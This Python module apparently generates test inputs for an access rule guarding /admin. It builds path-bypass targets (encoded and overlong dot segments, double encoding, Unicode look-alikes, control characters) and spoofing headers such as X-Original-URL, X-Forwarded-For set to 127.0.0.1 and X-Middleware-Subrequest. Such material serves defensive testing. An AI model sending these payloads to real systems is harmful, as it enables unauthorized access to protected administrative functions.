"""Make request targets, fields and methods that try to get past a path rule.

`/admin` is protected; `/public/**`, `/static/**` and `/healthz` are public. Each family breaks a rule of RFC
3986, RFC 9112, RFC 3629 or Unicode. Targets are written as they are sent.
"""

from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

Field = tuple[str, bytes]

PUBLIC_STARTS = ("/public", "/static", "/healthz")
DOTS = tuple("".join(pair) for pair in product((".", "%2e", "%2E"), repeat=2) if pair != (".", "."))
PARAMETERS = (";", ";a=b", ";a=b;c", ";jsessionid=7", "%3b", "%3Ba=b", "%253b", "%25253B")
INVISIBLE = (0x00AD, 0x200B, 0x200D, 0x200E, 0x202E, 0x2060, 0xFEFF)
# Mathematical and fullwidth letters, which NFKC changes to ASCII: the offset of "a".
COMPATIBLE = (0xFF41, 0x1D41A, 0x1D44E, 0x1D4EA, 0x1D552, 0x1D5BA, 0x1D68A, 0x24D0)


def overlong(code: int, size: int) -> str:
    """Encode an ASCII character in more bytes than UTF-8 allows, percent-encoded."""
    tail = [0x80 | (code >> 6 * place) & 0x3F for place in range(size - 1)]
    lead = {2: 0xC0, 3: 0xE0, 4: 0xF0}[size] | code >> 6 * (size - 1)
    return "".join(f"%{byte:02x}" for byte in (lead, *reversed(tail)))


def again(target: str, times: int = 1) -> str:
    """Encode the percent signs of a target once more."""
    for _ in range(times):
        target = target.replace("%", "%25")
    return target


def _dot_segments() -> Iterator[str]:
    for start, way in product(("", *PUBLIC_STARTS), ("/..", "/./..", "//..", "/x/../..")):
        yield f"{start}{way}/admin"
    yield from ("/./admin", "/admin/.", "/admin/./", "/admin/x/..", "./admin", "../admin", "/a/b/../../admin")


def _encoded_dots() -> Iterator[str]:
    for start, dots in product(PUBLIC_STARTS, DOTS):
        yield f"{start}/{dots}/admin"
    yield from ("/%2e/admin", "/%2E/admin/", "/admin/%2e", "/admin/x/%2e%2E")


def _repeated_encoding() -> Iterator[str]:
    for times, target in product((1, 2), ("/public/%2e%2e/admin", "/public%2f..%2fadmin", "/admin%2fusers")):
        yield again(target, times)
    yield from (again("/%61dmin"), again("/adm%69n", 2), "/public/%252e./admin", "/public/.%252E%252fadmin")


def _separators() -> Iterator[str]:
    for mark in ("%2f", "%2F", "%5c", "%5C", "\\", "%252f", "%255C"):
        yield from (f"/public/..{mark}admin", f"/public{mark}..{mark}admin", f"/admin{mark}users")
        yield from (f"/{mark}admin", f"/x/..{mark}admin")


def _slashes() -> Iterator[str]:
    for count in range(2, 6):
        yield from ("/" * count + "admin", "/" * count + "admin/users", "/admin" + "/" * count)
        yield "/public" + "/" * count + "../admin"
    yield from ("//admin/..//admin", "//admin//users//", "/%2f%2fadmin", "/public//..//admin")


def _parameters() -> Iterator[str]:
    for mark in PARAMETERS:
        yield from (f"/admin{mark}", f"/admin{mark}/users", f"/{mark}/admin", f"/public/..{mark}/admin")


def _letters() -> Iterator[str]:
    for place, letter in enumerate("admin"):
        encoded = f"%{ord(letter):02x}"
        yield from (f"/{'admin'[:place]}{mark}{'admin'[place + 1 :]}" for mark in (encoded, again(encoded)))
    whole = "".join(f"%{ord(letter):02X}" for letter in "admin")
    yield from (f"/{whole}", f"/{whole}/users", f"/{whole}%2Fusers", f"/{again(whole, 2)}")
    yield from ("/%u0061dmin", "/%u002fadmin", "/public/%u002e%u002e/admin")


def _case() -> Iterator[str]:
    for word in ("ADMIN", "Admin", "aDmIn", "admiN", "AdMiN%2fusers", "%41DMIN", "%41dmin%2Fx"):
        yield from (f"/{word}", f"/public/../{word}", f"/{word}/")


def _trailing() -> Iterator[str]:
    ends = (".", "...", "%20", "%20%20", ".%20", "%09", "%00", "%0a", "%0d", "%0d%0a", "%0b", "%0c", "%1f")
    for end in (*ends, "%7f", "%c2%85", "%c2%a0", "%e2%80%a8", "%e2%80%a9", "%ef%bb%bf", "%2f", "/"):
        yield from (f"/admin{end}", f"/admin{end}/users", f"/admin/{end}")


def _controls() -> Iterator[str]:
    for code in (0x00, 0x01, 0x08, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x1B, 0x1F, 0x7F):
        yield from (f"/%{code:02x}admin", f"/adm%{code:02x}in", f"/admin/%{code:02x}", f"/admin%{code:02x}/x")


def _lookalikes() -> Iterator[str]:
    for base in COMPATIBLE:
        word = "".join(chr(base + ord(letter) - ord("a")) for letter in "admin")
        yield from (f"/{quote(word)}", f"/{quote(word[0])}dmin")
    for code in INVISIBLE:
        yield from (f"/adm{quote(chr(code))}in", f"/{quote(chr(code))}admin")
    yield from (f"/{quote(chr(0xFF0F))}admin", f"/public/{quote(chr(0xFF0E) * 2)}/admin")


def _delimiters() -> Iterator[str]:
    for mark in ("?", "#", "%3f", "%23", "%3F.css", "%23/.."):
        yield from (f"/admin{mark}", f"/admin{mark}/public", f"/admin/x{mark}.css")
    yield from ("/admin?next=/healthz", "/admin?.json", "/admin?a=/../public/", "/admin?%2f..%2fpublic")


def _exempt_words() -> Iterator[str]:
    for word in ("public", "static/app.css", "healthz", "login", "favicon.ico", "x.css", "x;.js", "*", "~"):
        yield from (f"/admin/{word}", f"/admin/users/{word}")


def _target_forms() -> Iterator[str]:
    for scheme, authority in product(
        ("http", "HTTP", "https", "ws"), ("app", "app:80", "user@app", "public")
    ):
        yield f"{scheme}://{authority}/admin"
    yield from ("admin", "admin/", "\\admin", "/\\admin", "http:/admin", "http:///admin", "http://app//admin")


def _boundaries() -> Iterator[str]:
    for start, rest in product(PUBLIC_STARTS, ("admin", "-admin", ".admin", "_", "../admin", "..%2fadmin")):
        yield start + rest
    yield from ("/loginadmin", "/publi", "/publicly/admin")


def _overlong() -> Iterator[str]:
    for size in (2, 3, 4):
        dot, slash, back = (overlong(ord(mark), size) for mark in "./\\")
        yield from (f"/public/{dot}{dot}/admin", f"/public/..{slash}admin", f"/public/..{back}admin")
        yield from (f"/{overlong(ord('a'), size)}dmin", f"/public{slash}..{slash}admin", f"/{slash}admin")
    yield from (
        "/%ff%61dmin",
        "/public/%80/../admin",
        "/public/%ed%a0%80",
        "/public/%f5%80%80%80",
        "/public/%c3",
    )


def _malformed() -> Iterator[str]:
    for mark in ("%", "%2", "%zz", "%%32%65", "%u", "%u00", "%-1", "%2%65%2%65", "%x2e"):
        yield from (f"/public/{mark}/admin", f"/admin/{mark}", f"/public/{mark}")


def _alternates() -> Iterator[str]:
    for end in (".json", ".rsc", ".html", ".css", ".txt", "~", ".bak", ".segments/x.rsc", "/__data.json"):
        yield f"/admin{end}"
    yield from ("/_next/data/1/admin.json", "/docs", "/redoc", "/openapi.json", "/docs/oauth2-redirect")


def _mounts() -> Iterator[str]:
    for mount in ("mount", "app", "api/v1", "public-app", "%6dount", "mount;x", "mount%2f."):
        yield from (f"/{mount}/admin", f"/{mount}//admin", f"/{mount}%2fadmin")


def _homoglyphs() -> Iterator[str]:
    for word in (
        "\u0430dmin",
        "adm\u0456n",
        "adm\u0131n",
        "adm\u0130n",
        "admi\u0578",
        "\u0251dmin",
        "admin\ufe0f",
    ):
        yield f"/{quote(word)}"
        yield f"/public/{quote(chr(0x2025))}/{quote(word)}"


#: Families whose targets some server, proxy or router treats as /admin.
ADMIN = {
    "dot segments": _dot_segments, "encoded dots": _encoded_dots, "repeated encoding": _repeated_encoding,
    "separators": _separators, "slashes": _slashes, "parameters": _parameters, "encoded letters": _letters,
    "case": _case, "trailing": _trailing, "controls": _controls, "look-alikes": _lookalikes,
    "delimiters": _delimiters, "exempt words": _exempt_words, "target forms": _target_forms,
}  # fmt: skip
#: Families whose targets are not public, although the application may have no such path.
NOT_PUBLIC = {
    "boundaries": _boundaries, "overlong": _overlong, "malformed": _malformed, "alternates": _alternates,
    "mounts": _mounts, "homoglyphs": _homoglyphs,
}  # fmt: skip


def targets(*kinds: dict[str, object]) -> list[tuple[str, str]]:
    """Return each target once, with its family."""
    first: dict[str, str] = {}
    for family, make in (pair for kind in kinds for pair in kind.items()):
        for target in make():  # type: ignore[operator]
            first.setdefault(target, family)
    return [(family, target) for target, family in first.items()]


_PATH_FIELDS = (
    "X-Original-URL", "X-Original-URI", "X-Rewrite-URL", "X-Forwarded-Uri", "X-Forwarded-Path",
    "X-Forwarded-Prefix", "X-Envoy-Original-Path", "X-Accel-Redirect", "X_Forwarded_Uri", "Content-Location",
)  # fmt: skip
_CLIENT_FIELDS = ("X-Forwarded-For", "X-Real-IP", "True-Client-IP", "CF-Connecting-IP", "X-Client-IP")
_USER_FIELDS = ("X-Forwarded-User", "X_Forwarded_User", "X-Remote-User", "Remote-User", "X-Auth-Request-User")
_OTHER_FIELDS = (
    ("Host", b"public"), ("Host", b"app/public?"), ("Host", b"app?"), ("Host", b"app#"),
    ("Host", b"app\\public"),
    ("Forwarded", b"for=127.0.0.1;host=public;proto=https"), ("X-Forwarded-Host", b"public"),
    ("X-Forwarded-Proto", b"https"), ("X-HTTP-Method-Override", b"OPTIONS"), ("X-Method-Override", b"HEAD"),
    ("X-HTTP-Method", b"OPTIONS"), ("X-Middleware-Subrequest", b"middleware"),
    ("X-Middleware-Subrequest", b":".join([b"src/middleware"] * 5)), ("User-Agent", b"kube-probe/1.33"),
    ("User-Agent", b"GoogleHC/1.0"),
    ("Connection", b"close, Authorization"), ("Connection", b"close, X-User"),
    ("Purpose", b"prefetch"), ("Sec-Fetch-Site", b"same-origin"), ("Origin", b"https://app"),
    ("Access-Control-Request-Method", b"GET"), ("Upgrade-Insecure-Requests", b"1"),
)  # fmt: skip
_CREDENTIALS = (
    ("Authorization", b"Bearer"), ("Authorization", b"Bearer "), ("Authorization", b"Bearer a, Bearer b"),
    ("Authorization", b"Bearer null"), ("Authorization", b"Bearer undefined"),
    ("Authorization", b"Basic YTpi"),
    ("Authorization", b"bearer\ta"), ("Authorization", b"Bearer " + b"a" * 5000), ("Authorization", b"\xff"),
    ("X-API-Key", b""), ("X-API-Key", b"null"), ("X-API-Key", b"*"), ("X-API-Key", b"a,b"),
    ("Cookie", b"session=%%%"), ("Cookie", b"access_token=a; access_token=b"), ("Cookie", b"="),
    ("Cookie", b"access_token"), ("Proxy-Authorization", b"Bearer a"),
)  # fmt: skip


def fields() -> list[Field]:
    """Return fields that name another path, user or address than that of the request, or an invalid one."""
    paths = [(name, value) for name in _PATH_FIELDS for value in (b"/public/x", b"/healthz")]
    clients = [(name, value) for name in _CLIENT_FIELDS for value in (b"127.0.0.1", b"::1")]
    users = [(name, b"admin") for name in _USER_FIELDS]
    return [*paths, *clients, *users, *_OTHER_FIELDS, *_CREDENTIALS]


METHODS = ("HEAD", "TRACE", "PROPFIND", "get", "Get", "OPTIONS", "PUT", "PATCH", "DELETE", "POST", "M-SEARCH")
